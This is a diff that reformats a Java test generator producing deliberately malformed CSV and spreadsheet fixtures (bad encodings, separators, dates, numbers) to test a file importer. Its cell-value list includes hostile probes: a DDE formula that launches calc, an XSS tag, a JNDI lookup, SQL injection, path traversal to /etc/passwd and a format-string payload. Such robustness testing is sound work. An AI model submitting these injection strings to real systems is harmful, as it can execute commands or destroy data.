@@ -44,9 +44,20 @@ final class StrangeFiles {
 
     private void encodings() {
         String text = HEADINGS + "\r\n" + ROW + "\r\n" + ROW.replace("A1", "Été à Noël : 3 €") + "\r\n";
-        for (String charset :
-                List.of("UTF-8", "UTF-16LE", "UTF-16BE", "UTF-16", "UTF-32", "ISO-8859-1", "windows-1252", "x-MacRoman", "IBM850",
-                        "IBM500", "Shift_JIS", "windows-1251", "ISO-8859-15")) {
+        for (String charset : List.of(
+                "UTF-8",
+                "UTF-16LE",
+                "UTF-16BE",
+                "UTF-16",
+                "UTF-32",
+                "ISO-8859-1",
+                "windows-1252",
+                "x-MacRoman",
+                "IBM850",
+                "IBM500",
+                "Shift_JIS",
+                "windows-1251",
+                "ISO-8859-15")) {
             add("encodage-" + charset + ".csv", text.getBytes(Charset.forName(charset)));
         }
         add("marque-utf8.csv", ("\uFEFF" + text).getBytes(StandardCharsets.UTF_8));
@@ -55,16 +66,25 @@ final class StrangeFiles {
         byte[] mixed = text.getBytes(StandardCharsets.UTF_8);
         mixed[mixed.length - 5] = (byte) 0xE9;
         add("deux-encodages.csv", mixed);
-        add("marque-menteuse.csv", concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, text.getBytes(StandardCharsets.UTF_8)));
+        add(
+                "marque-menteuse.csv",
+                concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, text.getBytes(StandardCharsets.UTF_8)));
     }
 
     private void layouts() {
         String table = HEADINGS + "\n" + ROW + "\n" + ROW.replace("A1", "A2") + "\n";
-        text("virgules.csv", table.replace("2,35", "2.35").replace("48,87", "48.87").replace("12,5", "12.5").replace(';', ','));
+        text(
+                "virgules.csv",
+                table.replace("2,35", "2.35")
+                        .replace("48,87", "48.87")
+                        .replace("12,5", "12.5")
+                        .replace(';', ','));
         text("tabulations.txt", table.replace(';', '\t'));
         text("barres.csv", table.replace(';', '|'));
         text("deux-points.csv", table.replace(';', ':'));
-        text("separateurs-melanges.csv", HEADINGS + "\n" + ROW.replace(';', ',') + "\n" + ROW.replace(';', '\t') + "\n");
+        text(
+                "separateurs-melanges.csv",
+                HEADINGS + "\n" + ROW.replace(';', ',') + "\n" + ROW.replace(';', '\t') + "\n");
         text("sep-declare.csv", "sep=;\r\n" + table);
         text("sep-faux.csv", "sep=#\r\n" + table);
         text("guillemet-ouvert-au-debut.csv", "\"" + table);
@@ -87,10 +107,15 @@ final class StrangeFiles {
         text("nuls.csv", "\0".repeat(300) + table);
         text("nul-tardif.csv", table + (ROW + "\n").repeat(800) + ROW.replace("Moulin", "Mou\0lin") + "\n");
         text("controles.csv", table.replace("Dépôt", "\u0001\u0007\u001B[31mDépôt\u007F"));
-        text("formules.csv", table + ROW.replace("Les Tanneries", "=cmd|' /C calc'!A0") + "\n" + ROW.replace("Les Tanneries", "@SUM(1)")
-                + "\n" + ROW.replace("Les Tanneries", "+33 6") + "\n" + ROW.replace("Les Tanneries", "-1+1") + "\n");
+        text(
+                "formules.csv",
+                table + ROW.replace("Les Tanneries", "=cmd|' /C calc'!A0") + "\n"
+                        + ROW.replace("Les Tanneries", "@SUM(1)") + "\n" + ROW.replace("Les Tanneries", "+33 6") + "\n"
+                        + ROW.replace("Les Tanneries", "-1+1") + "\n");
         text("espaces-partout.csv", table.replace(";", "   ;\u00A0 "));
-        text("titre-au-dessus.csv", "Suivi des constats 2026;;;\nCommune :;Rivemont;;\n\n" + table + "Total;;;;;;;2;3\n");
+        text(
+                "titre-au-dessus.csv",
+                "Suivi des constats 2026;;;\nCommune :;Rivemont;;\n\n" + table + "Total;;;;;;;2;3\n");
     }
 
     private void headings() {
@@ -116,21 +141,79 @@ final class StrangeFiles {
 
     private void contents() {
         for (String date : List.of(
-                "12/03/2026", "12-03-26", "12.3.26", "12 mars 2026", "lundi 12 mars 2026", "1er mars 2026", "2026-03-12", "20260312", "46093",
-                "46093,75", "2026-03-12T10:00:00+01:00", "12/03/2026 14h30", "31/02/2026", "03/2026", "hier", "0000-00-00", "99999999", "-1",
+                "12/03/2026",
+                "12-03-26",
+                "12.3.26",
+                "12 mars 2026",
+                "lundi 12 mars 2026",
+                "1er mars 2026",
+                "2026-03-12",
+                "20260312",
+                "46093",
+                "46093,75",
+                "2026-03-12T10:00:00+01:00",
+                "12/03/2026 14h30",
+                "31/02/2026",
+                "03/2026",
+                "hier",
+                "0000-00-00",
+                "99999999",
+                "-1",
                 "12/03/99999")) {
             with("date-" + date.replaceAll("[^\\w,.-]", "_") + ".csv", "12/03/2026", date);
         }
         for (String number : List.of(
-                "1 234,56", "1\u202F234,56", "1,234.56", "1.234,56", "12,5 %", "12,5 €", "1e400", "1e-400", "NaN", "Infinity", "-0", "1_000",
-                "٣", "½", "9".repeat(400), "0x1F", "--5", "2,35°")) {
+                "1 234,56",
+                "1\u202F234,56",
+                "1,234.56",
+                "1.234,56",
+                "12,5 %",
+                "12,5 €",
+                "1e400",
+                "1e-400",
+                "NaN",
+                "Infinity",
+                "-0",
+                "1_000",
+                "٣",
+                "½",
+                "9".repeat(400),
+                "0x1F",
+                "--5",
+                "2,35°")) {
             with("nombre-" + Integer.toHexString(number.hashCode()) + ".csv", "2,35", number);
         }
         for (String cell : List.of(
-                "#REF!", "#N/A", "#DIV/0!", "#VALEUR!", "null", "N/A", "-", "😀".repeat(100), "مرحبا بالعالم", "Z̷̢a̴l̶g̵o̷".repeat(50),
-                "\u202Etxt.exe", "<img src=x onerror=alert(1)>", "%s%s%n%x", "${jndi:ldap://x/a}", "../../../etc/passwd", "'; drop table x; --",
-                "\\", "\\N", "{\"a\":1}", "a\tb", "\u2028\u2029", "0".repeat(200), "oui", "x".repeat(1_000_000), "y".repeat(99_999),
-                "\uD83D", "  ", "\u0000", "NUL", "1;2".replace(';', ','))) {
+                "#REF!",
+                "#N/A",
+                "#DIV/0!",
+                "#VALEUR!",
+                "null",
+                "N/A",
+                "-",
+                "😀".repeat(100),
+                "مرحبا بالعالم",
+                "Z̷̢a̴l̶g̵o̷".repeat(50),
+                "\u202Etxt.exe",
+                "<img src=x onerror=alert(1)>",
+                "%s%s%n%x",
+                "${jndi:ldap://x/a}",
+                "../../../etc/passwd",
+                "'; drop table x; --",
+                "\\",
+                "\\N",
+                "{\"a\":1}",
+                "a\tb",
+                "\u2028\u2029",
+                "0".repeat(200),
+                "oui",
+                "x".repeat(1_000_000),
+                "y".repeat(99_999),
+                "\uD83D",
+                "  ",
+                "\u0000",
+                "NUL",
+                "1;2".replace(';', ','))) {
             with("cellule-" + Integer.toHexString(cell.hashCode()) + ".csv", "Les Tanneries", cell);
         }
         text("inverses.csv", HEADINGS + "\n" + ROW.replace("2,35;48,87", "48,87;2,35") + "\n");
@@ -138,8 +221,12 @@ final class StrangeFiles {
         text("meme-ligne-5000-fois.csv", HEADINGS + "\n" + (ROW + "\n").repeat(5_000));
         text("que-des-blancs.csv", HEADINGS + "\n" + (";".repeat(15) + "\n").repeat(20_000));
         text("que-des-totaux.csv", HEADINGS + "\n" + "Total;;;;;12;13\nSous-total;;1\nTOTAL GÉNÉRAL;;2\n".repeat(3));
-        text("20000-lignes.csv", HEADINGS + "\n"
-                + IntStream.range(0, 3_000).mapToObj(i -> ROW.replace("A1", "A" + i) + "\n").collect(Collectors.joining()));
+        text(
+                "20000-lignes.csv",
+                HEADINGS + "\n"
+                        + IntStream.range(0, 3_000)
+                                .mapToObj(i -> ROW.replace("A1", "A" + i) + "\n")
+                                .collect(Collectors.joining()));
     }
 
     private void otherFormats() {
@@ -153,7 +240,9 @@ final class StrangeFiles {
         add("ole-tronque.xls", mark);
         text("page.xls", "<html><body><table><tr><td>code</td></tr></table></body></html>");
         text("page-decalee.xls", "\n\n  <!DOCTYPE html><table></table>");
-        text("tableur-2003.xml", "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>");
+        text(
+                "tableur-2003.xml",
+                "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>");
         text("trace.gpx", "<gpx><wpt lat=\"48\" lon=\"2\"/></gpx>");
         text("document.pdf", "%PDF-1.7\n%âãÏÓ");
         text("lettre.rtf", "{\\rtf1\\ansi Bonjour}");
